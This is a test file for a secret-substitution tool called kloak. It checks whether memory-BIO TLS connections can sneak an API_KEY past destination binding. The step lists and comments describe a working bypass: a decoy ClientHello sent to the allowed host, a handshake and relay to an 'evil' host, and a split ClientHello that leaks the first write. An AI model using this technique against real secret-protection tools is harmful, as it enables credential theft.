/**
 * The limit of memory-BIO binding (bpf/membio.h) under threat model B: code
 * in the tree that drives its own memory BIO decides where the ciphertext
 * goes, after kloak substituted. It binds the connection with a genuine
 * ClientHello sent to an allowed host on a fresh socket, runs the handshake
 * with a host of its own (sending it the ClientHello in a way kloak does not
 * take for one), and relays the write there: that host decrypts the real
 * value. kloak notices the second socket only when the write's
 * ciphertext is sent (binding_changed from then on), which is too late for
 * that write. Strict binding (--strict-binding, a pod's strict binding)
 * refuses every app-BIO connection (app_bio), and the value never leaves.
 * API_KEY may go to 127.0.0.1 only.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { startTlsServer, type TlsServer } from "../support/tls-server.ts";
import { attack, count, fakeSecret } from "./attack.ts";

let allowed: TlsServer; // 127.0.0.1: the secret may go here
let evil: TlsServer; // 127.0.0.3: it may not

beforeAll(async () => {
  allowed = await startTlsServer({ host: "127.0.0.1" });
  evil = await startTlsServer({ host: "127.0.0.3" });
});
afterAll(async () => {
  await allowed.close();
  await evil.close();
});
beforeEach(() => {
  allowed.reset();
  evil.reset();
});

/** Memory BIOs; the ClientHello goes to the allowed host first, the handshake runs with the other. */
const steps = (split: boolean) => [
  { op: "tcp", id: "good", host: "127.0.0.1", port: allowed.port },
  { op: "tcp", id: "bad", host: "127.0.0.3", port: evil.port },
  { op: "ssl", id: "c" },
  { op: "mem_bio", id: "c" },
  { op: "mem_handshake", id: "c", sock: "bad", decoy: "good", split },
  { op: "buffer", id: "b" },
  { op: "write", id: "c", buf: "b" },
  { op: "relay", id: "c", sock: "bad" },
  { op: "write", id: "c", buf: "b" },
  { op: "relay", id: "c", sock: "bad" },
  { op: "check", buf: "b" },
  { op: "sleep", s: 0.2 },
];

describe("memory-BIO binding under threat model B", () => {
  test("a decoy ClientHello to the allowed host, then the same one to another host: caught before any write", async () => {
    const secret = fakeSecret(32);
    const r = await attack({ secret, allow: ["127.0.0.1"], steps: steps(false) });
    expect(r.code).toBe(0);
    // The second ClientHello on a fresh socket was no pending connection's: the binding it may
    // have stolen is never used.
    expect(count(evil.received(), secret)).toEqual({ values: 0, placeholders: 4 });
    expect(count(allowed.received(), secret).values).toBe(0);
    expect(r.stderr).toMatch(/kloak: 0 substitution\(s\) in 2 TLS write\(s\)/);
    expect(r.stderr).toMatch(/refused 4x: secret API_KEY to unknown destination: binding_changed/);
  });

  test("the same with the real ClientHello split in two sends: the first write's value reaches the other host (the documented limit)", async () => {
    const secret = fakeSecret(32);
    const r = await attack({ secret, allow: ["127.0.0.1"], steps: steps(true) });
    expect(r.code).toBe(0);
    // Bound to the allowed socket by the decoy; the first write was substituted and the other host
    // decrypted it. Its ciphertext's send to the second socket marked the connection, so the second
    // write was refused.
    expect(count(evil.received(), secret)).toEqual({ values: 2, placeholders: 2 });
    expect(count(allowed.received(), secret).values).toBe(0);
    expect(r.out.BUF_B).toEqual(["placeholder"]); // put back after each write
    expect(r.stderr).toMatch(/kloak: 2 substitution\(s\) in 2 TLS write\(s\)/);
    expect(r.stderr).toMatch(/refused 2x: secret API_KEY to unknown destination: binding_changed/);
  });

  test("--strict-binding: the memory-BIO connection is refused (app_bio), the value never leaves", async () => {
    const secret = fakeSecret(32);
    const r = await attack({ secret, allow: ["127.0.0.1"], steps: steps(true), flags: ["--strict-binding"] });
    expect(r.code).toBe(0);
    expect(count(evil.received(), secret)).toEqual({ values: 0, placeholders: 4 });
    expect(count(allowed.received(), secret).values).toBe(0);
    expect(r.stderr).toMatch(/kloak: 0 substitution\(s\) in 2 TLS write\(s\)/);
    expect(r.stderr).toMatch(/refused 2x: secret API_KEY to unknown destination: app_bio \(strict binding/);
    expect(r.stderr).toMatch(/refused 2x: secret API_KEY to unknown destination: binding_changed/);
  });
});
